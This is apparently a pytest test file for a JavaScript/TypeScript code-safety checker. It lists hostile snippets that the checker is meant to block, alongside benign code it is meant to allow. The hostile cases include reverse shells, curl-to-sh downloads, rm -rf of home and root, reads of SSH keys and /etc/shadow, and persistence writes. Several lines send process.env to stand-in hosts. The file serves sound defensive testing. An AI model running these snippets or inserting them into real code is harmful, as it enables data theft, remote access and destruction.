"""rules_js.py: child_process, eval/Function/vm, dynamic require/import, files and network."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked, assert_reviewed


@pytest.mark.parametrize("src,rule", [
    ("const { exec } = require('child_process'); exec(`git clone ${url}`)", "js-shell-exec"),
    ("const cp = require('child_process'); cp.execSync(req.query.cmd)", "js-shell-exec"),
    ("import { execSync } from 'node:child_process'; execSync('curl -s x | sh')", "download-exec"),
    ("import * as cp from 'child_process'; cp['ex' + 'ec']('id')", "js-dynamic-code"),
    ("const { spawn } = require('child_process'); spawn(cmd, { shell: true })", "js-shell-exec"),
    ("const { spawn } = require('child_process'); spawn('bash', ['-c', payload])", "js-shell-exec"),
    ("const { exec: run } = require('child_process'); run('rm -rf ~')", "destructive-rm"),
    ("require('child_process').exec('bash -i >& /dev/tcp/h/1 0>&1')", "reverse-shell"),
    ("eval(atob(encoded))", "js-dynamic-code"),
    ("new Function(body)()", "js-dynamic-code"),
    ("const f = Function('return ' + expr)", "js-dynamic-code"),
    ("setTimeout('doEvil()', 10)", "js-dynamic-code"),
    ("const vm = require('vm'); vm.runInNewContext(src)", "js-dynamic-code"),
    ("import vm from 'vm'; new vm.Script(code)", "js-dynamic-code"),
    ("require(modName)", "js-dynamic-require"),
    ("const m = await import(url)", "js-dynamic-require"),
    ("await import('https://x.example/p.mjs')", "js-dynamic-require"),
    ("global['ev' + 'al'](code)", "js-dynamic-code"),
    ("globalThis[name]()", "js-dynamic-require"),
    ("this.constructor.constructor('return process')()", "js-dynamic-require"),
    ("process.binding('spawn_sync')", "js-dynamic-require"),
    ("const fs = require('fs'); fs.appendFileSync(os.homedir() + '/.bashrc', 'x')", "persistence"),
    ("fs.writeFileSync(`${os.homedir()}/.ssh/authorized_keys`, key)", "persistence"),
    ("fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", "secret-read"),
    ("fs.readFileSync('/etc/shadow')", "secret-read"),
    ("const net = require('net'); const cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); "
     "const c = net.connect(1, 'h', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); })", "reverse-shell"),
    ("fetch('https://x/c', { method: 'POST', body: JSON.stringify(process.env) })", "exfiltration"),
    # in the URL of Node's own http(s).get / request
    ("require('https').get('https://x/?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))", "exfiltration"),
    ("const https = require('https');\nconst data = JSON.stringify(process.env);\nhttps.get('https://x/?d=' + data);",
     "exfiltration"),
    ("import http from 'node:http';\nhttp.request(`http://x/c?e=${JSON.stringify(process.env)}`).end();", "exfiltration"),
    # handed to curl in a shell command line
    ("const { execSync } = require('child_process');\n"
     "const data = Buffer.from(JSON.stringify({ env: process.env })).toString('base64');\n"
     "execSync(`curl -s -X POST -d ${data} https://x/collect`);", "exfiltration"),
    ("process.env.NODE_OPTIONS = '--require /tmp/x.js'", "env-hijack"),
    ("fs.rmSync('/', { recursive: true })", "destructive-rm"),
    ("const x: string = `a${b}`; eval(x)", "js-dynamic-code"),
])
def test_js_attacks(src: str, rule: str) -> None:
    assert_blocked(src, rule, "typescript")


def test_spawn_of_computed_program_is_review() -> None:
    assert_reviewed("const { spawn } = require('child_process'); spawn(bin, args)", "js-subprocess-dynamic", "typescript")


@pytest.mark.parametrize("src", [
    "const x: number = 1; console.log(x + 2);",
    "import fs from 'fs'; const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));",
    "const { execFileSync } = require('child_process'); execFileSync('git', ['status', '--short']);",
    "import { spawn } from 'child_process'; spawn('npm', ['test'], { stdio: 'inherit' });",
    "import { execSync } from 'child_process'; execSync('npm run build', { stdio: 'inherit' });",
    "const res = await fetch('https://api.example.com/items'); console.log(await res.json());",
    "fs.rmSync('dist', { recursive: true, force: true });",
    "const el = <div className=\"x\">hi</div>;",
    "const m = await import('./plugins/local.js');",
    "console.log(process.env.NODE_ENV);",
    "eval('1 + 2')",
    "export default class Stack<T> { private items: T[] = []; }",
])
def test_ordinary_typescript(src: str) -> None:
    assert_allowed(src, "typescript")


def test_more_js_shapes() -> None:
    assert_blocked("import('child_process').then(cp => cp.execSync(`id ${x}`))", "js-shell-exec", "typescript")
    assert_blocked("eval.call(null, code)", "js-dynamic-code", "typescript")
    assert_blocked("Reflect.apply(eval, null, [code])", "js-dynamic-code", "typescript")
    assert_blocked("const e = eval; e(code)", "js-dynamic-code", "typescript")
    assert_blocked("const cp = require('child_' + 'process'); cp.exec(cmd)", "js-shell-exec", "typescript")
    assert_allowed("const re = /a+/; const m = re.exec(line); import('child_process');", "typescript")
